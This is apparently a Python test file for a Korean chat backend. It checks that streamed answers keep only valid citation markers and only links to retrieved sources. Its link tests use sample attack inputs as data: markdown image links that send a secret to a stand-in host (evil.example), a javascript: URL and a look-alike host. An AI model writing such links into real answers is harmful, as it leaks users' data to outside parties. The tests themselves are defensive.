"""Markers are checked against the sources, whatever pieces the answer comes in."""

from __future__ import annotations

import re
import time
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chalicelib.chat.citations import Citations, without_markers
from chalicelib.chat.links import REMOVED, Links

ALPHABET = "가 나1239０１[]［］【】,，-^~ .\n!()h"
LINKED = "![x](https://evil.example/p?q=1) http:/s]( hp)[1]. 가ww.ft/:"
REPETITIVE = ["](", "![", "![a](", "](a(", "https://", "//[::", "[1,", "[1 ", "] ( ", " ", "h"]


def cited(pieces: list[str], sources: int = 3) -> tuple[str, list[int]]:
    citations = Citations(sources)
    text = "".join(citations.feed(piece) for piece in pieces) + citations.finish()
    return text, citations.cited


def cut(text: str, at: list[int]) -> list[str]:
    edges = [0, *sorted({min(i, len(text)) for i in at}), len(text)]
    return [text[a:b] for a, b in pairwise(edges)]


@pytest.mark.parametrize(
    ("written", "shown", "numbers"),
    [
        ("가볍습니다[1].", "가볍습니다[1].", [1]),
        ("가볍습니다 [1, 2].", "가볍습니다 [1][2].", [1, 2]),
        ("가볍습니다[2][1].", "가볍습니다[2][1].", [2, 1]),
        ("가볍습니다［１］【2】", "가볍습니다[1][2]", [1, 2]),
        ("가볍습니다[1-3]", "가볍습니다[1][2][3]", [1, 2, 3]),
        ("가볍습니다[^1]", "가볍습니다[1]", [1]),
        ("가볍습니다 [9].", "가볍습니다.", []),
        ("가볍습니다 [9] [1, 9] 끝", "가볍습니다 [1] 끝", [1]),
        ("가볍습니다[1][0]", "가볍습니다[1]", [1]),
        ("[2024]년 [3인용] 텐트 [추천]", "[2024]년 [3인용] 텐트 [추천]", []),
        ("끊긴 답 [1", "끊긴 답", []),
        ("끊긴 답[", "끊긴 답", []),
        ("[1 다음 [2]", "[1 다음 [2]", [2]),
        ("모두[1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13]", "모두[1][2][3]", [1, 2, 3]),
        ("모두[1,\n99]", "모두[1]", [1]),
    ],
)
def test_markers_are_normalised_and_unknown_ones_removed(
    written: str, shown: str, numbers: list[int]
) -> None:
    assert cited([written]) == (shown, numbers)
    assert cited(list(written)) == (shown, numbers)


@given(st.text(ALPHABET, max_size=60), st.lists(st.integers(0, 60), max_size=12))
def test_any_cut_into_pieces_gives_the_same_text(text: str, at: list[int]) -> None:
    assert cited(cut(text, at)) == cited([text])


@given(st.text(ALPHABET, max_size=60), st.lists(st.integers(0, 60), max_size=12))
def test_every_number_that_is_shown_as_a_marker_is_a_source(text: str, at: list[int]) -> None:
    shown, numbers = cited(cut(text, at), sources=2)
    markers = [int(n) for n in re.findall(r"\[(\d{1,3})\]", shown)]
    assert set(markers) <= {1, 2}
    assert set(markers) == set(numbers)


@given(st.text(ALPHABET, max_size=40), st.integers(0, 40))
def test_what_was_let_out_never_ends_in_half_a_marker(text: str, at: int) -> None:
    shown = cited([text])[0]
    let_out = Citations(3).feed(text[:at])
    assert shown.startswith(let_out)
    assert not any(
        marker.start() < len(let_out) < marker.end() for marker in re.finditer(r"\[\d+\]", shown)
    )


@given(st.text(ALPHABET, max_size=60))
def test_a_neutralised_text_cites_nothing(text: str) -> None:
    assert cited([without_markers(text)])[1] == []


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("사진 ![](https://evil.example/?q=비밀) 끝", "사진 끝"),
        ("![a](//evil.example/x)", ""),
        ("[여기](https://evil.example/a)를 누르세요", "[여기]를 누르세요"),
        ("[여기](javascript:alert(1))", "[여기]"),
        ("[여기](//evil.example)", "[여기]"),
        ("[여기]((//evil.example)", f"[여기] (({REMOVED})"),
        ("[여기](끝나지 않는", "[여기] (끝나지 않는"),
        ("주소는 https://[::1]/p입니다", f"주소는 {REMOVED}입니다"),
        ("주소는 www.evil.example/?q=1.", f"주소는 {REMOVED}."),
        ("주소는 www.ok.example/b.", "주소는 www.ok.example/b."),
        ("주소는 //evil/p 끝", f"주소는 {REMOVED} 끝"),
        ("주소는 //ok.example/a 끝", "주소는 //ok.example/a 끝"),
        ("주소는 ftp://evil.example/p 끝", f"주소는 {REMOVED} 끝"),
        ("주소는 https://évil.example/p 끝", f"주소는 {REMOVED} 끝"),
        ("둘 // 셋, 그리고/또는 www. 끝", "둘 // 셋, 그리고/또는 www. 끝"),
        ("[여기](https://ok.example/a)를", "[여기] (https://ok.example/a)를"),
        ("주소는 https://ok.example/a.", "주소는 https://ok.example/a."),
        ("주소는 https://ok.example/a에서", "주소는 https://ok.example/a에서"),
        ("주소는 HTTPS://evil.example/a.", f"주소는 {REMOVED}."),
        ("http 통신과 [1](https://evil.example)", "http 통신과 [1]"),
        ("느낌표! [1]", "느낌표! [1]"),
    ],
)
def test_only_links_of_retrieved_rows_pass(written: str, shown: str) -> None:
    assert linked([written]) == shown
    assert linked(list(written)) == shown


@given(st.text(LINKED, max_size=60), st.lists(st.integers(0, 60), max_size=12))
def test_links_do_not_depend_on_the_pieces(text: str, at: list[int]) -> None:
    assert linked(cut(text, at)) == linked([text])


@settings(max_examples=25)  # long texts in many pieces
@given(st.lists(st.sampled_from(["https://", "evil.example/", "a" * 700, " ", "![", "](", ")"])))
def test_long_addresses_do_not_depend_on_the_pieces_either(parts: list[str]) -> None:
    assert linked(parts) == linked(["".join(parts)])
    assert linked(["".join(parts)[i : i + 97] for i in range(0, 9_000, 97)]) == linked(parts)


@pytest.mark.parametrize("unit", REPETITIVE)
def test_a_repetitive_answer_costs_no_more_than_its_length(unit: str) -> None:
    text = (unit * 20_000)[:20_000]
    began = time.thread_time()
    assert linked([text]) == linked(list(text))
    assert cited([text]) == cited(list(text))
    assert time.thread_time() - began < 2  # a scan that starts over at each opening takes minutes


def linked(pieces: list[str]) -> str:
    links = Links({"https://ok.example/a", "https://www.ok.example/b"})
    return "".join(links.feed(piece) for piece in pieces) + links.finish()
